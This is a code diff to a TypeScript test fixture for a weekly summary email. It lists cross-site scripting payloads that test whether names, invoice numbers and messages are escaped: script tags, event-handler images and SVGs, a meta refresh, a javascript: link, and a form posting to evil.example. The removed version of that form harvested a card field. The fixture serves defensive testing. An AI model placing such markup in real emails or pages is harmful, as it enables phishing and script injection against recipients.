@@ -5,15 +5,16 @@ import type { SummaryEmailLinks } from '../../src/reports/weekly-summary-email.j
 
 /**
  * Markup a ledger, an organisation or a debtor could put in a name, a number or a message, each of
- * which would act in a mail client if it reached the HTML as markup.
+ * which would act in a mail client if it reached the HTML as markup. Each fits an invoice number
+ * (60 characters), and all of them after a name fit a name (300).
  */
 export const hostileMarkup = {
-  script: '<script>alert("script")</script>',
-  imageHandler: '<img src=x onerror=alert("img")>',
-  svgHandler: '<svg/onload=alert("svg")>',
-  metaRefresh: '<meta http-equiv=refresh content="0;url=https://evil.example/refresh">',
-  form: '<form action=https://evil.example/steal method=post><input name=card><button>Pay</button></form>',
-  javascriptLink: '<a href="javascript:alert(&quot;link&quot;)">Pay here</a>',
+  script: '<script>alert(1)</script>',
+  imageHandler: '<img src=x onerror=alert(2)>',
+  svgHandler: '<svg/onload=alert(3)>',
+  metaRefresh: '<meta http-equiv=refresh content="0;url=//evil.example">',
+  form: '<form action=https://evil.example><button>Go</button></form>',
+  javascriptLink: '<a href="javascript:alert(4)">Pay</a>',
 } as const;
 
 /** Every hostile fragment, one after another, after some ordinary text. */
